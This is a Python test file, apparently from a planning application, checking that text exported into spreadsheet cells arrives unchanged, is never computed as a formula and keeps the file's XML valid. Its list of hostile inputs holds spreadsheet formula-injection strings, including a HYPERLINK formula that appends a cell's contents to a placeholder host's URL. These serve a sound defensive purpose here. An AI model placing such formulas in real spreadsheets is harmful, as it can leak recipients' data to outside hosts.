"""Text in cells: it arrives as it was, is never computed, and never breaks the file."""

from __future__ import annotations

import re
import tempfile
from pathlib import Path
from xml.etree.ElementTree import fromstring

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from domain.exchange.workbook.text import (
    LONGEST_TEXT,
    as_read,
    as_shown,
    as_written,
    in_markup,
    looks_like_a_formula,
    on_one_line,
)
from tests.domain import plan_builder as build
from tests.domain.exchange.workbook.workbooks import opened, rows_of

HOSTILE = [
    '=HYPERLINK("http://host.example/?"&A1,"click")',
    "+1",
    "-1",
    "@SUM(A1)",
    "'quoted",
    "\ttab",
    "two\nlines",
    "<b>&amp;</b> ]]> &#0;",
    "_x0041_ is no A",
    "  spaces around  ",
    "Zoë – “Oranje” 🚢",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_arrives_as_text(tmp_path: Path, text: str) -> None:
    plan = build.plan(build.rotation("r1", "m", "2026-01-01", "2026-03-31", note=text))
    (row,) = rows_of(opened(tmp_path, plan), "rotations")
    assert as_read(row["note"]) == text


def test_a_control_character_is_shown_by_its_number(tmp_path: Path) -> None:
    plan = build.plan(
        build.rotation("r1", "m", "2026-01-01", "2026-03-31", note="be\x07ll\r\n\u202e")
    )
    (row,) = rows_of(opened(tmp_path, plan), "rotations")
    assert row["note"] == "be\\u0007ll\n\\u202E"


def test_a_text_that_is_too_long_is_cut_where_the_cell_is_full(tmp_path: Path) -> None:
    plan = build.plan(build.rotation("r1", "m", "2026-01-01", "2026-03-31", note="x" * 40_000))
    (row,) = rows_of(opened(tmp_path, plan), "rotations")
    assert row["note"] == "x" * 32_766 + "…"


def test_a_character_of_two_units_is_not_cut_in_half() -> None:
    shown = as_shown("x" + "🚢" * 20_000)
    assert shown.encode("utf-16-le").__len__() // 2 <= 32_767
    assert shown.endswith("🚢…")


def test_what_excel_would_compute_is_known_by_its_beginning() -> None:
    assert [text for text in HOSTILE if looks_like_a_formula(text)] == HOSTILE[:6]


def test_a_text_that_looks_like_an_escape_is_escaped_and_comes_back() -> None:
    assert as_written("_x0041_") == "_x005F_x0041_"
    assert as_read("_x005F_x0041_") == "_x0041_"


def test_a_line_has_no_breaks() -> None:
    assert on_one_line(" one\n two\r\n\tthree ") == "one two three"


ANY_TEXT = st.text(st.characters(codec=None), max_size=60)


@given(ANY_TEXT)
def test_any_text_makes_sound_xml_that_reads_back_as_shown(text: str) -> None:
    element = fromstring(f"<t>{in_markup(text)}</t>")  # noqa: S314 - our own markup
    assert as_read(element.text or "") == as_shown(text)


@given(ANY_TEXT)
def test_showing_twice_is_showing_once(text: str) -> None:
    assert as_shown(as_shown(text)) == as_shown(text)


@given(st.text(st.sampled_from("x🚢\n\x07"), min_size=1, max_size=5), st.integers(8_000, 40_000))
def test_no_text_is_longer_than_a_cell(text: str, times: int) -> None:
    assert len(as_shown(text * times).encode("utf-16-le")) // 2 <= LONGEST_TEXT


@given(st.lists(ANY_TEXT, min_size=1, max_size=4))
@settings(max_examples=15)
def test_any_texts_in_a_plan_make_a_workbook_that_opens(texts: list[str]) -> None:
    rotations = [
        build.rotation(f"r{n}", "m", "2026-01-01", "2026-03-31", note=text, justification=text)
        for n, text in enumerate(texts)
    ]
    with tempfile.TemporaryDirectory() as folder:
        rows = rows_of(opened(Path(folder), build.plan(*rotations)), "rotations")
    assert [as_read(row["note"] or "") for row in rows] == [as_shown(text) for text in texts]
    assert not any(re.search("[\x00-\x08]", str(row)) for row in rows)
